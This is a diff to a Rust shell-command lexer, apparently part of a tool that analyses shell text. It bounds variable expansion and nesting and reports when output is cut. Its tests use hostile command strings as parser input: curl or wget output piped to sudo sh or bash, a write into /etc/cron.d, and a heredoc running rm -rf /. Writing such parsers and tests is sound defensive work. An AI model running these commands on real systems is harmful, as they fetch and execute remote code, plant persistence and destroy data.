@@ -2,6 +2,7 @@
 
 use std::collections::BTreeMap;
 use std::ops::Range;
+use std::rc::Rc;
 
 /// One word, as the program would get it.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
@@ -34,7 +35,12 @@ pub(crate) struct Command {
 /// Deepest nesting that is followed.
 const DEEPEST: usize = 6;
 /// Most commands of one text.
-const MOST: usize = 400;
+const MOST: usize = 4096;
+/// Most variables, and most bytes of one.
+const MOST_VARIABLES: usize = 64;
+const LONGEST_VALUE: usize = 1024;
+/// Most bytes that variables may add to a text: `a=$b$b; b=$a$a; …` would double it with each step.
+const MOST_EXPANDED: usize = 64 * 1024;
 
 impl Command {
     /// Bytes from the first to the last word.
@@ -46,23 +52,41 @@ impl Command {
     }
 }
 
-/// The commands of `text`, those inside others before them.
-pub(crate) fn parse(text: &str) -> Vec<Command> {
-    let mut lexer = Lexer { text, at: 0, out: Vec::new(), variables: BTreeMap::new(), base: 0 };
+/// The commands of `text`, those inside others before them, and whether a bound left some out.
+pub(crate) fn parse(text: &str) -> (Vec<Command>, bool) {
+    let (variables, spent) = Default::default();
+    let mut lexer = Lexer { text, at: 0, out: Vec::new(), variables, spent, base: 0 };
     lexer.list(None, 0);
-    lexer.out
+    (lexer.out, lexer.spent.cut)
 }
 
 struct Lexer<'t> {
     text: &'t str,
     at: usize,
     out: Vec<Command>,
-    variables: BTreeMap<String, String>,
+    /// Shared with what is nested, which takes most of its texts from here.
+    variables: Rc<BTreeMap<String, String>>,
+    spent: Spent,
     /// Where `text` begins in the text of the caller.
     base: usize,
 }
 
+/// What a lexer and those within it have used of their bounds together.
+#[derive(Debug, Clone, Copy, Default)]
+struct Spent {
+    /// Bytes that variables have put in.
+    expanded: usize,
+    /// Whether something was left out.
+    cut: bool,
+}
+
 impl Lexer<'_> {
+    /// Whether there is a level below this one.
+    fn below(&mut self, depth: usize) -> bool {
+        self.spent.cut |= depth >= DEEPEST;
+        depth < DEEPEST
+    }
+
     fn peek(&self) -> Option<char> {
         self.text.get(self.at..)?.chars().next()
     }
@@ -77,11 +101,30 @@ impl Lexer<'_> {
         Some(c)
     }
 
+    /// A lexer for a text within this one, that begins here.
+    fn within<'n>(&self, text: &'n str) -> Lexer<'n> {
+        let (variables, spent) = (Rc::clone(&self.variables), self.spent);
+        Lexer { text, at: 0, out: Vec::new(), variables, spent, base: self.base + self.at }
+    }
+
+    /// The value of a variable, while there is room for values.
+    fn value(&mut self, name: &str) -> Option<String> {
+        let value = self.variables.get(name)?;
+        let expanded = self.spent.expanded + value.len();
+        if expanded > MOST_EXPANDED {
+            self.spent.cut = true;
+            return None;
+        }
+        self.spent.expanded = expanded;
+        Some(value.clone())
+    }
+
     /// Commands up to `close` or the end.
     fn list(&mut self, close: Option<char>, depth: usize) {
         let mut command = Command::default();
         while let Some(c) = self.peek() {
             if self.out.len() >= MOST {
+                self.spent.cut = true;
                 self.at = self.text.len();
                 break;
             }
@@ -156,8 +199,11 @@ impl Lexer<'_> {
                 && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                 && !word.text.starts_with('=')
             {
-                if self.variables.len() < 64 {
-                    self.variables.insert(name.to_owned(), value.to_owned());
+                let known = self.variables.contains_key(name) || self.variables.len() < MOST_VARIABLES;
+                if !known || value.len() > LONGEST_VALUE {
+                    self.spent.cut = true;
+                } else {
+                    Rc::make_mut(&mut self.variables).insert(name.to_owned(), value.to_owned());
                 }
                 command.assignments.push((name.to_owned(), value.to_owned()));
                 return;
@@ -183,14 +229,16 @@ impl Lexer<'_> {
     }
 
     fn arrow(&mut self, command: &mut Command, depth: usize) {
-        let rest = self.rest();
-        if (rest.starts_with("<(") || rest.starts_with(">(")) && depth < DEEPEST {
+        if (self.rest().starts_with("<(") || self.rest().starts_with(">(")) && self.below(depth) {
             let start = self.at;
             self.at += 2;
             self.nested(depth, &mut command.inner);
             let range = self.base + start..self.base + self.at;
             command.words.push(Word { text: "<()".to_owned(), range, substituted: true });
-        } else if rest.starts_with("<<<") {
+            return;
+        }
+        let rest = self.rest();
+        if rest.starts_with("<<<") {
             self.at += 3;
             self.redirect("<<<", command, depth);
         } else if rest.starts_with("<<") {
@@ -242,13 +290,13 @@ impl Lexer<'_> {
         command.heredoc = body.get(..length).map(str::to_owned);
         // Lexing goes on behind it; what stood on the line is lexed first.
         let tail = rest.get(..line).unwrap_or_default().to_owned();
-        let mut lexer =
-            Lexer { text: &tail, at: 0, out: Vec::new(), variables: self.variables.clone(), base: self.base + self.at };
-        if tail.trim_start().starts_with('|') && depth < DEEPEST {
+        let mut lexer = self.within(&tail);
+        if tail.trim_start().starts_with('|') && lexer.below(depth) {
             lexer.list(None, depth + 1);
         }
-        let more = lexer.out;
+        let (more, spent) = (lexer.out, lexer.spent);
         let skipped = body.get(length..).and_then(|rest| rest.find('\n')).map_or(body.len() - length, |at| at + 1);
+        self.spent = spent;
         self.at += line + 1 + length + skipped;
         self.finish(command, false);
         for (at, mut next) in more.into_iter().enumerate() {
@@ -269,11 +317,11 @@ impl Lexer<'_> {
         let body = self.rest();
         let end = body.find('`').unwrap_or(body.len());
         let text = body.get(..end).unwrap_or_default();
-        let mut lexer =
-            Lexer { text, at: 0, out: Vec::new(), variables: self.variables.clone(), base: self.base + self.at };
+        let mut lexer = self.within(text);
         lexer.list(None, depth + 1);
         let before = self.out.len();
-        let made = lexer.out;
+        let (made, spent) = (lexer.out, lexer.spent);
+        self.spent = spent;
         self.at = (self.at + end + 1).min(self.text.len());
         for mut command in made {
             for index in &mut command.inner {
@@ -309,7 +357,7 @@ impl Lexer<'_> {
                     self.bump();
                     self.quoted(&mut word, depth, inner);
                 }
-                '`' if depth < DEEPEST => {
+                '`' if self.below(depth) => {
                     self.bump();
                     self.backtick(depth, inner);
                     word.substituted = true;
@@ -349,7 +397,7 @@ impl Lexer<'_> {
                         _ => word.text.push('\\'),
                     }
                 }
-                '`' if depth < DEEPEST => {
+                '`' if self.below(depth) => {
                     self.bump();
                     self.backtick(depth, inner);
                     word.substituted = true;
@@ -371,7 +419,7 @@ impl Lexer<'_> {
     fn dollar(&mut self, word: &mut Word, depth: usize, inner: &mut Vec<usize>) -> bool {
         self.bump();
         match self.peek() {
-            Some('(') if depth < DEEPEST && !self.rest().starts_with("((") => {
+            Some('(') if !self.rest().starts_with("((") && self.below(depth) => {
                 self.bump();
                 self.nested(depth, inner);
                 word.substituted = true;
@@ -396,8 +444,8 @@ impl Lexer<'_> {
                     Some((plain, fallback)) => (plain, Some(fallback)),
                     None => (name.as_str(), None),
                 };
-                match (self.variables.get(plain), fallback) {
-                    (Some(value), _) => word.text.push_str(value),
+                match (self.value(plain), fallback) {
+                    (Some(value), _) => word.text.push_str(&value),
                     (None, Some(fallback)) => word.text.push_str(fallback),
                     (None, None) => {
                         word.text.push_str("${");
@@ -418,8 +466,8 @@ impl Lexer<'_> {
                     }
                     return true;
                 }
-                match self.variables.get(&name) {
-                    Some(value) if !name.is_empty() => word.text.push_str(value),
+                match self.value(&name) {
+                    Some(value) if !name.is_empty() => word.text.push_str(&value),
                     _ => {
                         word.text.push('$');
                         word.text.push_str(&name);
@@ -470,7 +518,7 @@ mod tests {
     use super::*;
 
     fn words(text: &str) -> Vec<Vec<String>> {
-        parse(text).iter().map(|command| command.words.iter().map(|word| word.text.clone()).collect()).collect()
+        parse(text).0.iter().map(|command| command.words.iter().map(|word| word.text.clone()).collect()).collect()
     }
 
     #[test]
@@ -483,7 +531,7 @@ mod tests {
 
     #[test]
     fn commands_pipes_and_redirections_are_told_apart() {
-        let commands = parse("curl -s http://x.example/a | sudo sh; echo hi >> /etc/cron.d/x && ls 2>/dev/null");
+        let (commands, _) = parse("curl -s http://x.example/a | sudo sh; echo hi >> /etc/cron.d/x && ls 2>/dev/null");
         assert_eq!(commands.len(), 4);
         assert!(commands[1].piped && !commands[2].piped);
         assert_eq!((commands[2].redirects[0].0, commands[2].redirects[0].1.text.as_str()), (">>", "/etc/cron.d/x"));
@@ -492,11 +540,11 @@ mod tests {
 
     #[test]
     fn nested_commands_come_first() {
-        let commands = parse("sh -c \"$(curl -s http://x.example)\"");
+        let (commands, _) = parse("sh -c \"$(curl -s http://x.example)\"");
         assert_eq!(commands.len(), 2);
         assert_eq!(commands[0].words[0].text, "curl");
         assert_eq!(commands[1].inner, [0]);
-        let commands = parse("bash <(wget -qO- http://x.example) ; echo `id`");
+        let (commands, _) = parse("bash <(wget -qO- http://x.example) ; echo `id`");
         assert_eq!(
             commands.iter().map(|command| command.words[0].text.as_str()).collect::<Vec<_>>(),
             ["wget", "bash", "id", "echo"]
@@ -505,9 +553,16 @@ mod tests {
 
     #[test]
     fn a_here_document_is_kept_apart() {
-        let commands = parse("bash <<'EOF'\nrm -rf /\nEOF\nls");
+        let (commands, _) = parse("bash <<'EOF'\nrm -rf /\nEOF\nls");
         assert_eq!(commands[0].heredoc.as_deref(), Some("rm -rf /\n"));
         assert_eq!(commands[1].words[0].text, "ls");
+    }
+
+    #[test]
+    fn variables_that_double_each_other_end() {
+        let text = "a=xxxxxxxxxxxxxxxx;".to_owned() + &"b=$a$a;a=$b$b;".repeat(30) + &"$a".repeat(30_000);
+        let total: usize = parse(&text).0.iter().flat_map(|command| &command.words).map(|word| word.text.len()).sum();
+        assert!(total <= text.len() + MOST_EXPANDED, "{total}");
     }
 
     #[test]
@@ -531,6 +586,7 @@ mod tests {
         ] {
             parse(text);
         }
-        assert!(parse(&"a;".repeat(10_000)).len() <= MOST);
+        let (commands, cut) = parse(&"a;".repeat(10_000));
+        assert!(commands.len() <= MOST && cut);
     }
 }
